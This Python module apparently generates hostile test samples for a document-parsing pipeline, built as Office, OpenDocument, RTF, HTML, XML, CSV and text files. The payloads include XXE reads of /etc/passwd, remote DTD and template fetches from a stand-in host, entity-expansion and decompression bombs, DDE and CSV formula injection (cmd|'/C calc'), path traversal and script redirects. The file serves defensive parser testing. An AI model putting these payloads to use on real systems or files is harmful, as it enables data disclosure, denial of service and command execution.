"""Family 5: office documents, HTML, XML, text."""

from __future__ import annotations

from collections.abc import Iterator

from hostility.archives import zipped
from hostility.sample import Sample, attached, mixed, note, part, text_part

ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
REMOTE = '<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://198.51.100.7/x.dtd">'
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">'
    + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
    + "]>"
)
BLOWUP = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e "' + "x" * 50_000 + '">]>'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>'
)
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def samples() -> Iterator[Sample]:
    """Yield the samples of this family."""
    for group in (_word, _sheets, _open_documents, _rich_text, _markup, _texts):
        for name, data, file_name in group():
            yield attached(name, data, file_name)
    yield from _bodies()


def _relations(*lines: tuple[str, str, str]) -> str:
    inside = "".join(
        f'<Relationship Id="r{n}" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="{mode or "Internal"}"/>'
        for n, (kind, target, mode) in enumerate(lines)
    )
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inside}</Relationships>'


def docx(body: str, head: str = '<?xml version="1.0"?>', **more: str | bytes) -> bytes:
    """Return a Word document with this markup as its body."""
    files: dict[str, str | bytes] = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": _relations(("officeDocument", "word/document.xml", "")),
        "word/document.xml": f"{head}<w:document {W}><w:body>{body}</w:body></w:document>",
    }
    files |= {name.replace("__", "/"): content for name, content in more.items()}
    return zipped({name: content if isinstance(content, bytes) else content.encode() for name, content in files.items()})


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _word() -> Iterator[tuple[str, bytes, str]]:
    yield "docx-bomb", docx(" " * 150_000_000), "a.docx"
    yield "docx-laughs", docx(_paragraph("&a11;"), LAUGHS), "a.docx"
    yield "docx-quadratic", docx(_paragraph("&e;" * 50_000), BLOWUP), "a.docx"
    yield "docx-external-entity", docx(_paragraph("&e;"), ENTITY), "a.docx"
    yield "docx-remote-dtd", docx(_paragraph("x"), REMOTE), "a.docx"
    targets = (("attachedTemplate", "http://198.51.100.7/t.dotm", "External"), ("image", "http://198.51.100.7/i.png", "External"))
    odd = {"word/_rels/document.xml.rels": _relations(*targets, ("header", "../../../../etc/passwd", ""))}
    yield "docx-remote-template", docx(_paragraph("x"), **odd), "a.docx"
    table = "<w:tbl><w:tr><w:tc>"
    yield "docx-tables-3000-deep", docx(table * 3_000 + _paragraph("x") + "</w:tc></w:tr></w:tbl>" * 3_000), "a.docx"
    yield "docx-elements-100000-deep", docx("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000), "a.docx"
    yield "docx-300000-paragraphs", docx(_paragraph("Mr. A") * 300_000), "a.docx"
    yield "docx-one-letter-of-20-megabytes", docx(_paragraph("x" * 20_000_000)), "a.docx"
    span = '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr>' + _paragraph("x") + "</w:tc></w:tr></w:tbl>"
    yield "docx-cell-2-billion-wide", docx(span), "a.docx"
    yield "docx-200000-text-boxes", docx(f"<w:p>{'<w:txbxContent><w:p/></w:txbxContent>' * 200_000}</w:p>"), "a.docx"
    numbers = (
        f'<w:numbering {W}><w:abstractNum w:abstractNumId="0"><w:numStyleLink w:val="a"/></w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="0"/></w:num></w:numbering>'
    )
    listed = '<w:p><w:pPr><w:numPr><w:ilvl w:val="999999999"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>x</w:t></w:r></w:p>'
    yield (
        "docx-numbering-in-a-circle",
        docx(
            listed,
            **{"word/numbering.xml": numbers, "word/_rels/document.xml.rels": _relations(("numbering", "numbering.xml", ""))},
        ),
        "a.docx",
    )
    yield "docx-without-document", zipped({"[Content_Types].xml": TYPES.encode(), "word/document.xml": b""}), "a.docx"
    yield (
        "docx-not-xml",
        zipped({"[Content_Types].xml": TYPES.encode(), "_rels/.rels": b"\xff\xfe", "word/document.xml": b"\0" * 50}),
        "a.docx",
    )
    yield (
        "docx-related-to-itself",
        docx(_paragraph("x"), **{"_rels/.rels": _relations(("officeDocument", "_rels/.rels", ""))}),
        "a.docx",
    )
    yield "docx-with-macro", docx(_paragraph("x"), **{"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(600)}), "a.docm"
    yield (
        "pptx-slides-in-a-circle",
        zipped({"[Content_Types].xml": TYPES.encode(), "ppt/presentation.xml": ENTITY.encode() + b"<p>&e;</p>"}),
        "a.pptx",
    )
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 1_500 + "WordDocument".encode("utf-16-le") + b"\xff" * 2_000
    yield "doc-junk", ole, "a.doc"


def xlsx(sheet: str, head: str = '<?xml version="1.0"?>', sheets: int = 1, strings: str = "") -> bytes:
    """Return a workbook whose sheets all have this markup."""
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    names = "".join(f'<sheet name="S{n}" sheetId="{n}" r:id="r{n - 1}"/>' for n in range(1, sheets + 1))
    files = {
        "[Content_Types].xml": TYPES,
        "_rels/.rels": _relations(("officeDocument", "xl/workbook.xml", "")),
        "xl/workbook.xml": f'{head}<workbook {main} xmlns:r="{OFFICE}"><sheets>{names}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": _relations(
            *[("worksheet", "worksheets/s.xml", "")] * sheets, ("sharedStrings", "strings.xml", "")
        ),
        "xl/worksheets/s.xml": f"{head}<worksheet {main}>{sheet}</worksheet>",
        "xl/strings.xml": f"<sst {main}>{strings}</sst>",
    }
    return zipped({name: content.encode() for name, content in files.items()})


def _row(number: int, *cells: str) -> str:
    return f'<row r="{number}">' + "".join(cells) + "</row>"


def _sheets() -> Iterator[tuple[str, bytes, str]]:
    def sheet(rows: str, claim: str = "") -> str:
        return (f'<dimension ref="{claim}"/>' if claim else "") + f"<sheetData>{rows}</sheetData>"

    one = '<c r="A1" t="inlineStr"><is><t>Mr. A</t></is></c>'
    yield "xlsx-claims-17-billion-cells", xlsx(sheet(_row(1, one), "A1:XFD1048576")), "a.xlsx"
    corners = _row(1, one) + _row(1_048_576, '<c r="XFD1048576"><v>1</v></c>')
    yield "xlsx-two-corners", xlsx(sheet(corners)), "a.xlsx"
    yield "xlsx-cell-beyond-the-sheet", xlsx(sheet('<row r="99999999999"><c r="ZZZZZZZ99999999999"><v>1</v></c></row>')), "a.xlsx"
    yield "xlsx-500000-rows", xlsx(sheet("".join(_row(n, f'<c r="A{n}"><v>1</v></c>') for n in range(1, 500_000)))), "a.xlsx"
    yield "xlsx-3000-sheets", xlsx(sheet(_row(1, one)), sheets=3_000), "a.xlsx"
    yield (
        "xlsx-strings-bomb",
        xlsx(sheet('<row r="1"><c r="A1" t="s"><v>0</v></c></row>'), strings=f"<si><t>{'x' * 100_000_000}</t></si>"),
        "a.xlsx",
    )
    yield "xlsx-string-missing", xlsx(sheet('<row r="1"><c r="A1" t="s"><v>999999999999</v></c></row>')), "a.xlsx"
    yield "xlsx-laughs", xlsx(sheet('<row r="1"><c r="A1" t="str"><v>&a11;</v></c></row>'), LAUGHS), "a.xlsx"
    yield "xlsx-external-entity", xlsx(sheet('<row r="1"><c r="A1" t="str"><v>&e;</v></c></row>'), ENTITY), "a.xlsx"
    formula = "<c r=\"A1\" t=\"str\"><f>cmd|'/C calc'!A0</f><v>=cmd|'/C calc'!A0</v></c>"
    yield (
        "xlsx-formulas",
        xlsx(sheet(_row(1, formula, '<c r="B1"><f>WEBSERVICE("http://198.51.100.7/")</f><v>1</v></c>'))),
        "a.xlsx",
    )
    yield (
        "xlsx-date-1e300",
        xlsx(sheet(_row(1, '<c r="A1"><v>1e300</v></c>', '<c r="B1" t="d"><v>99999-99-99</v></c>'))),
        "a.xlsx",
    )
    yield (
        "xls-junk",
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 1_500 + "Workbook".encode("utf-16-le") + b"\xff" * 3_000,
        "a.xls",
    )
    yield "csv-formulas", b"=cmd|'/C calc'!A0;@SUM(1+1);+1;-1\n" * 100, "a.csv"
    yield "csv-300000-rows", b"Mr.;A;B;C\n" * 300_000, "a.csv"
    yield "csv-one-row-of-million-cells", b";" * 1_000_000, "a.csv"


def _open_document(kind: str, content: str, head: str = '<?xml version="1.0"?>') -> bytes:
    names = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"' for name in ("office", "text", "table", "style")
    )
    body = f"<office:body><office:{kind}>{content}</office:{kind}></office:body>"
    markup = f"{head}<office:document-content {names}>{body}</office:document-content>"
    return zipped({"mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(), "content.xml": markup.encode()})


def _open_documents() -> Iterator[tuple[str, bytes, str]]:
    cell = '<table:table-cell table:number-columns-repeated="{}" office:value-type="string"><text:p>x</text:p></table:table-cell>'
    row = '<table:table-row table:number-rows-repeated="{}">{}</table:table-row>'
    for kind in ("spreadsheet", "text"):
        bomb = f'<table:table table:name="a">{row.format(1_000_000, cell.format(16_000))}</table:table>'
        yield f"{kind}-16-billion-cells", _open_document(kind, bomb), "a.ods" if kind == "spreadsheet" else "a.odt"
    huge = f'<table:table table:name="a">{row.format(10**30, cell.format("-5"))}</table:table>'
    yield "ods-repeats-beyond-numbers", _open_document("spreadsheet", huge), "a.ods"
    yield "odt-billion-blanks", _open_document("text", '<text:p>a<text:s text:c="1000000000"/>b</text:p>'), "a.odt"
    yield (
        "odt-lists-20000-deep",
        _open_document("text", "<text:list><text:list-item>" * 20_000 + "</text:list-item></text:list>" * 20_000),
        "a.odt",
    )
    yield "odt-laughs", _open_document("text", "<text:p>&a11;</text:p>", LAUGHS), "a.odt"
    yield "odt-external-entity", _open_document("text", "<text:p>&e;</text:p>", ENTITY), "a.odt"
    yield "odt-bomb", _open_document("text", f"<text:p>{' ' * 150_000_000}</text:p>"), "a.odt"
    yield "odt-without-content", zipped({"mimetype": b"application/vnd.oasis.opendocument.text"}), "a.odt"


def _rich_text() -> Iterator[tuple[str, bytes, str]]:
    for name, text in (
        ("braces-300000-deep", b"{" * 300_000 + b"}" * 300_000),
        ("binary-2-billion", b"\\bin2147483647 x"),
        ("binary-negative", b"\\bin-5 x"),
        ("unicode-odd", b"\\u-99999? \\u55357? \\u99999999999999999999? \\uc99999999 \\u65 x"),
        (
            "remote-template",
            b'{\\*\\template http://198.51.100.7/t.dot}{\\field{\\*\\fldinst INCLUDEPICTURE "http://198.51.100.7/"}}',
        ),
        ("object-data", b"{\\object{\\*\\objdata " + b"d0cf11e0" * 200_000 + b"}}"),
        ("not-closed", b"\\par" * 200_000 + b"{\\"),
        ("million-words", b"\\b x " * 1_000_000),
        ("codepage-junk", b"\\ansicpg99999 \\'ff\\'zz\\'"),
        ("cells-million", b"\\trowd" + b"\\cellx1" * 300_000 + b"\\cell" * 300_000 + b"\\row"),
    ):
        yield f"rtf-{name}", b"{\\rtf1\\ansi " + text + b"}", "a.rtf"


def _markup() -> Iterator[tuple[str, bytes, str]]:
    for name, text in _html():
        yield f"html-{name}", b"<html><body>" + text + b"</body></html>", "a.html"
    yield "xml-laughs", LAUGHS.encode() + b"<x>&a11;</x>", "a.xml"
    yield "xml-external-entity", ENTITY.encode() + b"<x>&e;</x>", "a.xml"
    yield "xml-remote-dtd", REMOTE.encode() + b"<x/>", "a.xml"
    yield "xml-100000-deep", b'<?xml version="1.0"?>' + b"<a>" * 100_000 + b"</a>" * 100_000, "a.xml"
    word = (
        '<?xml version="1.0"?><?mso-application progid="Word.Document"?>'
        '<w:wordDocument xmlns:w="http://schemas.microsoft.com/office/word/2003/wordml">'
        f"<w:body>{'<w:p>' * 50_000}</w:body></w:wordDocument>"
    )
    yield "word-2003-deep", word.encode(), "a.xml"


def _html() -> Iterator[tuple[str, bytes]]:
    yield "100000-deep", b"<div>" * 100_000 + b"x"
    yield "inline-100000-deep", b"<b>" * 100_000 + b"x"
    yield "tables-2000-deep", b"<table><tr><td>" * 2_000 + b"x"
    yield "200000-tables", b"<table><tr><td>x<td>y</table>" * 200_000
    yield "cell-billion-wide", b"<table><tr><td colspan=1000000000 rowspan=1000000000>x<td>y</tr></table>"
    yield "200000-list-items", b"<ol>" + b"<li>Mr. A" * 200_000 + b"</ol>"
    yield "attribute-8-megabytes", b'<p title="' + b"a" * 8_000_000 + b'">x</p>'
    yield "300000-attributes", b"<p " + b"".join(b"a%d=1 " % n for n in range(300_000)) + b">x</p>"
    yield "15-megabytes", b"<p>Mr. A</p>" * 1_300_000
    remote = (
        b'<script>location="http://198.51.100.7/"</script><img src="http://198.51.100.7/a.png" onerror=x>'
        b"<link rel=stylesheet href=http://198.51.100.7/><iframe src=file:///etc/passwd></iframe>"
        b'<meta http-equiv=refresh content="0;url=http://198.51.100.7/">'
    )
    yield "script-and-remote", remote
    yield "not-closed", b"<!-- " * 100_000 + b"<![CDATA[" * 1_000 + b"<p"
    yield "entities", b"&#x110000; &#0; &#55357; &amp;amp; &nosuch; " * 50_000
    yield "nuls", b"<p>a\0b</p>" * 10_000


def _texts() -> Iterator[tuple[str, bytes, str]]:
    for name, text in (
        ("digits-3-megabytes", b"1234567890" * 300_000),
        ("digits-and-blanks", b"1 2 3 4 5 6 7 8 9 0 " * 40_000),
        ("addresses-without-end", b"a@" * 400_000),
        ("dots-in-addresses", b"a@" + b"a." * 400_000),
        ("plus-signs", b"+" * 500_000),
        ("brackets", b"(" * 400_000),
        ("blanks", b" " * 800_000 + b"x"),
        ("empty-lines", b"\n" * 900_000 + b"x"),
        ("references", b"CU 2009/33 (A) " * 50_000),
        ("honorifics", b"Mr. Ms. H.E. Dr. " * 50_000),
        ("list-of-50000", b"".join(b"%d. Mr. Aba BEDU, Minister of Trade\n" % n for n in range(50_000))),
        ("commas", b"A, " * 250_000),
        ("hyphens", b"a-" * 400_000),
        ("quotes", b">" * 900_000),
        ("capitals", b"AAAA BBBB " * 90_000),
        ("colons", b"Name: Title: E-mail: Tel: " * 30_000),
    ):
        yield f"text-{name}", text, "a.txt"


def _bodies() -> Iterator[Sample]:
    for name, text in _html():
        whole = b"<html><body>" + text + b"</body></html>"
        yield Sample(f"body-html-{name}", mixed(part(whole, b"Content-Type: text/html; charset=utf-8"), text_part()))
    for name, text, _ in _texts():
        yield Sample(f"body-{name}", mixed(text_part(text), text_part(note())))
